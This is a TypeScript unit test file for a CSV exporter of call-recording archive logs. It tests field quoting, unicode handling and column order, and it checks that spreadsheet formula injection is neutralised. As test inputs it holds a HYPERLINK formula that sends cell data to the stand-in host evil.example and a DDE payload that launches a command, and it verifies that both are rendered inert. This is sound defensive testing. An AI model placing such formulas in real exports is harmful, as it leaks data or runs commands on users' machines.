import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  CSV_BOM,
  LOG_CSV_COLUMNS,
  csvField,
  csvRecord,
  logCsvHeader,
  logCsvRecord,
  parseCsv,
} from '../../lib/csv';
import type { LogRow } from '../../lib/ledger/types';

function row(overrides: Partial<LogRow> = {}): LogRow {
  return {
    key: 'CallRecording:1',
    kind: 'CallRecording',
    status: 'Archived',
    owner: 'Alice Smith',
    from: '+16505550100',
    to: '+16505550199, +16505550198',
    createdAt: '2026-11-01T10:00:00.000Z',
    archivedAt: '2026-11-01T10:05:00.000Z',
    storage: 'sftp',
    path: 'RingCentral Archiver/a.mp3',
    bytes: 1234,
    sha256: 'ab'.repeat(32),
    attempts: 1,
    retries: 0,
    updatedAt: '2026-11-01T10:05:00.000Z',
    ...overrides,
  };
}

describe('csv fields', () => {
  it('leaves plain text and numbers as they are', () => {
    assert.equal(csvField('Alice Smith'), 'Alice Smith');
    assert.equal(csvField(1234), '1234');
    assert.equal(csvField(0), '0');
    assert.equal(csvField(undefined), '');
    assert.equal(csvField(null), '');
    assert.equal(csvField(Number.NaN), '');
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    assert.equal(csvField('Smith, Alice'), '"Smith, Alice"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('cr\rhere'), '"cr\rhere"');
    assert.equal(csvRecord(['a', 'b,c', 3]), 'a,"b,c",3\r\n');
  });

  it('neutralises every formula start with a leading apostrophe', () => {
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('+15551234567'), "'+15551234567");
    assert.equal(csvField('-2+3'), "'-2+3");
    assert.equal(csvField('@SUM(A1:A2)'), "'@SUM(A1:A2)");
    assert.equal(csvField('\t=cmd'), "'\t=cmd");
    assert.equal(csvField('\r=cmd'), `"'\r=cmd"`);
    // Inside the text a formula character is harmless.
    assert.equal(csvField('a=b'), 'a=b');
  });

  it('neutralises and quotes a hostile HYPERLINK so that it reads back as inert text', () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
    const field = csvField(hostile);
    assert.equal(field, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
    assert.deepEqual(parseCsv(csvRecord([hostile, 'next'])), [[`'${hostile}`, 'next']]);
    // The classic DDE payload, with a comma and a pipe.
    const dde = "=cmd|' /C calc'!A0,x";
    assert.deepEqual(parseCsv(csvRecord([dde])), [[`'${dde}`]]);
  });

  it('keeps unicode intact: names, emoji, right-to-left text, a BOM-like character inside', () => {
    const values = ['Zoë Ångström', '山田 太郎', '👩‍💼 ops', 'שלום', `a${CSV_BOM}b`];
    const parsed = parseCsv(CSV_BOM + csvRecord(values));
    assert.deepEqual(parsed, [values]);
  });
});

describe('the archive log CSV', () => {
  it('has the documented columns in order', () => {
    assert.deepEqual(parseCsv(logCsvHeader()), [[...LOG_CSV_COLUMNS]]);
    assert.deepEqual(LOG_CSV_COLUMNS, [
      'Type',
      'From',
      'To',
      'Owner',
      'File Created',
      'File Archived',
      'Storage Service',
      'Path',
      'Bytes',
      'SHA-256',
      'Status',
      'Attempts',
      'Last Error',
      'Key',
    ]);
  });

  it('writes one record per row with every column, a failed row without archive facts', () => {
    const text =
      logCsvHeader() +
      logCsvRecord(row()) +
      logCsvRecord(
        row({
          key: 'Fax:2',
          kind: 'Fax',
          status: 'Failed',
          owner: '=HYPERLINK("http://evil.example","x")',
          archivedAt: undefined,
          path: undefined,
          bytes: undefined,
          sha256: undefined,
          storage: 'dropbox',
          attempts: 3,
          lastError: 'HTTP 507, "insufficient_space"\nreconnect',
        }),
      );
    const [header, archived, failed, ...rest] = parseCsv(text);
    assert.equal(rest.length, 0);
    const byColumn = (r: string[]) => Object.fromEntries(header!.map((h, i) => [h, r[i]]));
    assert.deepEqual(byColumn(archived!), {
      Type: 'CallRecording',
      From: "'+16505550100",
      To: "'+16505550199, +16505550198",
      Owner: 'Alice Smith',
      'File Created': '2026-11-01T10:00:00.000Z',
      'File Archived': '2026-11-01T10:05:00.000Z',
      'Storage Service': 'sftp',
      Path: 'RingCentral Archiver/a.mp3',
      Bytes: '1234',
      'SHA-256': 'ab'.repeat(32),
      Status: 'Archived',
      Attempts: '1',
      'Last Error': '',
      Key: 'CallRecording:1',
    });
    const f = byColumn(failed!);
    assert.equal(f.Owner, `'=HYPERLINK("http://evil.example","x")`);
    assert.equal(f['Last Error'], 'HTTP 507, "insufficient_space"\nreconnect');
    assert.equal(f['File Archived'], '');
    assert.equal(f.Bytes, '');
    assert.equal(f.Status, 'Failed');
    assert.equal(f.Attempts, '3');
  });
});
